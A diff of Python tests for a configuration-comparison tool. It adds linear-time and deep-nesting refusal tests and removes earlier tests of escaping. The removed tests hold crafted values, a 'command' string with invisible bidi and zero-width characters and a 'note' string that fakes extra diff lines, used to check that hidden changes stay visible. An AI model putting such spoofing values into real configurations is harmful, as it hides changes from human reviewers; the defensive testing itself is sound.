-def test_a_comparison_takes_no_longer_than_its_length(other: Any) -> None:
+def test_a_comparison_of_lists_takes_no_longer_than_their_length(other: Any) -> None:
     def sides(size: int) -> tuple[Any, dict[str, Any]]:
         block = [*range(100)]
         return stored({"a": block * (size // 100)}), {"a": other(block) * (size // 100)}
 
-    assert is_linear(lambda pair: config_changes(pair[0], pair[1], "config"), sides, 32_000)
+    assert is_linear(lambda pair: diff(pair[0], pair[1], "config"), sides, 32_000)
 
 
-def test_a_change_that_cannot_be_seen_is_escaped() -> None:
-    lines = changes({"command": "run"}, {"command": "run\u202e\u200b\x7f\U000e0064\ud800"})
-    assert r'+  "command": "run\u202e\u200b\x7f\U000e0064\ud800"' in lines
+@pytest.mark.parametrize(
+    "edit",
+    [lambda items: items, lambda items: random.Random(1).sample(items, len(items)), lambda items: []],
+    ids=["edited", "shuffled", "removed"],
+)
+def test_a_comparison_of_items_takes_no_longer_than_their_number(edit: Any) -> None:
+    def sides(size: int) -> tuple[dict[str, Any], dict[str, Any]]:
+        old, new = ([arm(f"arm-{n}", host=f"h{n}", speed=speed) for n in range(size)] for speed in (1, 2))
+        return {"components": old}, {"components": edit(new)}
+
+    assert is_linear(lambda pair: compared(*pair), sides, 8_000)
 
 
-def test_text_that_looks_like_more_of_the_diff_stays_on_its_line() -> None:
-    lines = changes({}, {"note": "x\n-  removed\u2028+ added\x85"})
-    assert len(lines) == len(changes({}, {"note": "x"}))
-
-
-def test_true_is_not_one_and_a_null_is_not_nothing() -> None:
-    assert '-  "x": true' in changes({"x": True}, {"x": 1})
-    assert '-  "x": null' in changes({"x": None}, {})
-    assert changes({"x": 1}, {"x": 1.0}) == SAME
-
-
-def test_a_long_value_takes_one_line_of_bounded_length() -> None:
-    assert max(map(len, changes({}, {"blob": "A" * 100_000}))) < 250
-
-
-@given(st.lists(st.text(alphabet="abc ", max_size=600), max_size=80))
-def test_bounded_lines_are_few_and_say_how_many_are_missing(lines: list[str]) -> None:
-    kept = bounded(lines)
-    assert len(kept) <= MOST_LINES
-    assert sum(len(line) + 1 for line in kept) <= MOST_CHARACTERS
-    if len(kept) < len(lines) or kept != tuple(lines):
-        assert "more" in "\n".join(kept)
+async def test_what_is_nested_too_deeply_to_compare_is_refused() -> None:
+    deep: dict[str, Any] = {}
+    for _ in range(5_000):
+        deep = {"a": deep}
+    with pytest.raises(ToolError, match="nested too deeply"):
+        await config_diff(stored({}), deep, "config")
